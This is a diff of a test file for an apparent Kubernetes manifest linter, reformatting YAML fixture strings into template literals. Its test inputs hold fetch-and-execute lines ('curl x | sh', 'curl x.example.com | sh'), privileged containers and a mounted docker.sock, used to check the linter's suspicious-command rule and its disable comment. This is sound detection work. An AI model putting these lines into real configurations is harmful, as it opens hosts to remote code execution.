@@ -7,21 +7,51 @@ describe('files that are not Kubernetes say nothing', () => {
   it.each([
     [
       'docker-compose',
-      'version: "3"\nservices:\n  web:\n    image: nginx\n    privileged: true\n    volumes: ["/var/run/docker.sock:/x"]\n',
+      `version: "3"
+services:
+  web:
+    image: nginx
+    privileged: true
+    volumes: ["/var/run/docker.sock:/x"]
+`,
     ],
     [
       'a GitHub workflow',
-      'on: push\njobs:\n  a:\n    runs-on: x\n    container: { image: nginx }\n    steps:\n      - run: curl x | sh\n',
+      `on: push
+jobs:
+  a:
+    runs-on: x
+    container: { image: nginx }
+    steps:
+      - run: curl x | sh
+`,
     ],
     [
       'OpenAPI',
-      'openapi: 3.0.0\ninfo: { title: kind apiVersion }\npaths: {}\ncomponents: { schemas: { Pod: { properties: { kind: { type: string }, apiVersion: { type: string } } } } }\n',
+      `openapi: 3.0.0
+info: { title: kind apiVersion }
+paths: {}
+components: { schemas: { Pod: { properties: { kind: { type: string }, apiVersion: { type: string } } } } }
+`,
     ],
     [
       'Helm values',
-      'image:\n  repository: nginx\n  tag: latest\nsecurityContext:\n  privileged: true\n# kind: apiVersion:\n',
+      `image:
+  repository: nginx
+  tag: latest
+securityContext:
+  privileged: true
+# kind: apiVersion:
+`,
     ],
-    ['a Helm chart', 'apiVersion: v2\nname: x\nversion: 1.0.0\ndescription: any kind\n'],
+    [
+      'a Helm chart',
+      `apiVersion: v2
+name: x
+version: 1.0.0
+description: any kind
+`,
+    ],
     ['nothing', ''],
     ['blank lines', '\n\n  \n'],
     ['comments', '# apiVersion: v1\n# kind: Pod\n'],
@@ -30,7 +60,11 @@ describe('files that are not Kubernetes say nothing', () => {
     ['a CRD', podWith('web').replace('kind: Pod', 'kind: CustomResourceDefinition')],
     [
       'a ConfigMap that holds a manifest',
-      `apiVersion: v1\nkind: ConfigMap\ndata:\n  pod.yaml: |\n${podWith('web').replace(/^/gm, '    ')}`,
+      `apiVersion: v1
+kind: ConfigMap
+data:
+  pod.yaml: |
+${podWith('web').replace(/^/gm, '    ')}`,
     ],
     ['an empty kind', podWith('web').replace('kind: Pod', 'kind: ""')],
     ['a kind that is no string', podWith('web').replace('kind: Pod', 'kind: 5')],
@@ -94,7 +128,15 @@ describe('comments that silence', () => {
   it('can stand above the key of a text of several lines', () => {
     const script = plain.replace(
       '      securityContext',
-      '      args: [-c]\n      command:\n        - sh\n        - -c\n        # sidecar-guard-disable-next-line suspicious-command\n        - |\n          echo\n          curl x.example.com | sh\n      securityContext',
+      `      args: [-c]
+      command:
+        - sh
+        - -c
+        # sidecar-guard-disable-next-line suspicious-command
+        - |
+          echo
+          curl x.example.com | sh
+      securityContext`,
     );
     expect(see(script.replace(/ +# sidecar.*\n/, ''), 'suspicious-command')).toHaveLength(1);
     expect(see(script, 'suspicious-command')).toEqual([]);
